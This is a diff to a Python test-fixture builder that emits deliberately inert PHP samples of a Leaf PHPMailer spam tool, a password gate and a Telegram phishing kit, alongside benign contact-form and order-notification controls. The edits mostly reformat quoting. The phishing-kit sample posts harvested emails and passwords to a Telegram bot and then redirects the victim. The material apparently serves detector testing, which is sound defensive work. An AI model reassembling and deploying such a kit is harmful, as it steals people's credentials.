@@ -7,14 +7,14 @@ contact forms and a Telegram notification bot.
 
 from __future__ import annotations
 
-from sample_blocks import HOST, INERT_NOTE, Builders, split, text
+from sample_blocks import INERT_NOTE, Builders, split, text
 
 
 def leaf_page() -> dict[str, bytes]:
     return {
         "leaf-phpmailer-php": text(
             f"<?php exit; /* {INERT_NOTE}",
-            split("$leaf['web", "site']=\"leafmailer", ".pw\";"),
+            split("$leaf['web", "site']=\"leafmailer", '.pw";'),
             split("function leaf", "Trim($string){ return stripslashes(ltrim(rtrim($string))); }"),
             split("function leaf", "MailCheck($email){ return filter_var($email, FILTER_VALIDATE_EMAIL); }"),
             split('$text = str_replace("[-random', 'md5-]", md5(rand()), $text);'),
@@ -29,8 +29,8 @@ def leaf_gate() -> dict[str, bytes]:
             f"<?php exit; /* {INERT_NOTE}",
             '$password = "example"; session_start();',
             split('ini_set("memory_', 'limit",-1);'),
-            split("$leaf['ver", "sion']=\"2.8\";"),
-            split("$leaf['web", "site']=\"example.invalid\";"),
+            split("$leaf['ver", 'sion\']="2.8";'),
+            split("$leaf['web", 'site\']="example.invalid";'),
             split("$sessioncode = md5(__", "FILE__);"),
             split("if (isset($_REQUEST['pass']) and $_REQUEST['pass'] ", "== $password) { }"),
             "*/",
@@ -46,7 +46,9 @@ def telegram_kit() -> dict[str, bytes]:
             split('$message .= "|Email : ".$_POST', "['email'].\"\\n\";"),
             split('$message .= "|Pass', 'word : ".$_POST', "['password'].\"\\n\";"),
             split('$website = "https://api.telegram', '.org/bot".$botToken;'),
-            split("file_get_contents($website . '/send", "Message?chat_id=' . $chatId . '&text=' . urlencode($message));"),
+            split(
+                "file_get_contents($website . '/send", "Message?chat_id=' . $chatId . '&text=' . urlencode($message));"
+            ),
             split('header("Location: ', 'https://www.example.com/login");'),
             "*/",
         )
@@ -74,13 +76,13 @@ def near_contact() -> dict[str, bytes]:
         "contact-form-php": text(
             "<?php",
             "// contact form handler",
-            "$message = \"New enquiry\\n\";",
-            "$message .= \"Name: \" . $_POST['name'] . \"\\n\";",
-            "$message .= \"Email: \" . $_POST['email'] . \"\\n\";",
-            "$message .= \"Message: \" . $_POST['message'] . \"\\n\";",
+            '$message = "New enquiry\\n";',
+            '$message .= "Name: " . $_POST[\'name\'] . "\\n";',
+            '$message .= "Email: " . $_POST[\'email\'] . "\\n";',
+            '$message .= "Message: " . $_POST[\'message\'] . "\\n";',
             "$message .= \"Sent from: \" . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['HTTP_USER_AGENT'];",
             "mail($to, $subject, $message);",
-            "header(\"Location: https://www.example.com/thanks.html\");",
+            'header("Location: https://www.example.com/thanks.html");',
         )
     }
 
@@ -89,10 +91,10 @@ def near_telegram() -> dict[str, bytes]:
     return {
         "telegram-order-notify-php": text(
             "<?php",
-            "$website = \"https://api.telegram.org/bot\" . $botToken;",
+            '$website = "https://api.telegram.org/bot" . $botToken;',
             "$text = \"New order #\" . (int) $_POST['order_id'] . \" from \" . $_SERVER['REMOTE_ADDR'];",
             "file_get_contents($website . '/sendMessage?chat_id=' . $chatId . '&text=' . urlencode($text));",
-            "header(\"Location: https://shop.example.com/thanks\");",
+            'header("Location: https://shop.example.com/thanks");',
         )
     }
 
